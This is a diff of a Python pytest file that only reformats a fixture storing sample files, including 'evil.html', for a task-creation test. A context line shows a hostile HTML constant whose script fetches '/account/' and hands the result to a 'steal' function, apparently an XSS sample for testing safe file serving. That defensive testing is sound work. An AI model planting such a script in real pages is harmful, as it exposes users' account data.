@@ -16,13 +16,16 @@ HOSTILE_HTML = b"<html><script>fetch('/account/').then(r => r.text()).then(steal
 @pytest.fixture
 def files_task(author, environment):
     files = []
-    for path, data in [("notes/readme.md", "# Notes\nCaf\u00e9 \u2014 42\n".encode()),
-                       ("evil.html", HOSTILE_HTML),
-                       ("chart.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)),
-                       ("latin1.txt", "na\u00efve".encode("latin-1"))]:
+    for path, data in [
+        ("notes/readme.md", "# Notes\nCaf\u00e9 \u2014 42\n".encode()),
+        ("evil.html", HOSTILE_HTML),
+        ("chart.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)),
+        ("latin1.txt", "na\u00efve".encode("latin-1")),
+    ]:
         files.append({"path": path, "sha256": services.blob_store(data=data).sha256})
-    return services.task_create(slug="with-files", environment=environment, author=author,
-                                content=task_content(files=files))
+    return services.task_create(
+        slug="with-files", environment=environment, author=author, content=task_content(files=files)
+    )
 
 
 def url(path: str, number: int = 1) -> str:
